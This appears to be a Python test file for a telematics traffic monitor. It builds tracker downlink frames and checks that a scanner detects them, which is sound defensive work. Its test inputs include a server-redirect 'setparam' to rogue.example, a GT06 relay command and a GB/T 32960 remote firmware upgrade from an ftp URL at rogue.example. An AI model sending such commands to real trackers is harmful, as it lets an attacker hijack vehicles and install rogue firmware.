"""Downlink commands decoded from the server side: Teltonika codec 12 and 14, GT06 online
commands, GB/T 32960 control and parameter setting, each with its checksum verdict."""

from __future__ import annotations

import struct
from functools import reduce

# Teltonika's published examples: codec 12 "getinfo"; codec 14 "getver" to IMEI 352093081452251.
TELTONIKA_CODEC12 = bytes.fromhex("000000000000000F0C010500000007676574696E666F0100004312")
TELTONIKA_CODEC14 = bytes.fromhex("00000000000000160E01050000000E0352093081452251676574766572010000D2C1")


def teltonika_codec12(command: bytes) -> bytes:
    data = b"\x0c\x01\x05" + struct.pack(">I", len(command)) + command + b"\x01"
    return bytes(4) + struct.pack(">I", len(data)) + data + bytes(4)  # CRC left zero: a bad one only lowers confidence


def gt06_online_command(command: bytes) -> bytes:
    info = bytes([4 + len(command)]) + b"\x00\x00\x00\x01" + command
    return b"\x78\x78" + bytes([1 + len(info) + 4]) + b"\x80" + info + b"\x00\x01" + b"\x00\x00" + b"\r\n"


def gbt32960_downlink(command: int, unit: bytes, vin: bytes = b"LSVAU2180N2183294") -> bytes:
    body = bytes([command, 0xFE]) + vin + b"\x01" + struct.pack(">H", len(unit)) + unit
    return b"##" + body + bytes([reduce(lambda a, b: a ^ b, body, 0)])


def test_teltonika_gt06_and_gbt32960_downlink_commands_are_decoded():
    from collections import Counter

    from monitor.detect.wire.scan import scan_payload

    def remote(payload: bytes):
        return [m for m in scan_payload(payload, Counter()) if m.category == "remote"]

    [getinfo] = remote(TELTONIKA_CODEC12)
    assert (getinfo.protocol, getinfo.evidence["command"], getinfo.evidence["crc_ok"]) == ("teltonika", "getinfo", True)
    [getver] = remote(TELTONIKA_CODEC14)
    assert (getver.evidence["command"], getver.identity, getver.evidence["crc_ok"]) == ("getver", {"imei": "352093081452251"}, True)
    [server] = remote(teltonika_codec12(b"setparam 2004:rogue.example;2005:9999"))
    assert server.seen == "downlink codec 12 command: setparam" and server.evidence["crc_ok"] is False
    assert not remote(bytes.fromhex("00000000000000370C01060000002F") + b"x" * 47 + bytes(5))  # type 6: the device's answer
    [relay] = remote(gt06_online_command(b"RELAY,1#"))
    assert (relay.protocol, relay.seen, relay.evidence["command"]) == ("gt06", "downlink online command 0x80: RELAY", "RELAY,1#")
    upgrade = gbt32960_downlink(0x82, bytes.fromhex("1a0b1e0c0000") + b"\x01" + b"ftp://rogue.example/fw.bin;")
    [control] = remote(upgrade)
    assert control.evidence["control"] == "remote upgrade" and "rogue.example" in control.evidence["arguments"]
    assert control.evidence["bcc_ok"] is True and control.identity == {"vin": "LSVAU2180N2183294"}
    [setting] = remote(gbt32960_downlink(0x81, bytes.fromhex("1a0b1e0c0000") + b"\x02\x06\x00\x50\x01\x00\x0a"))
    assert setting.seen == "downlink parameter setting 0x81: parameter setting" and setting.evidence["parameter_count"] == 2
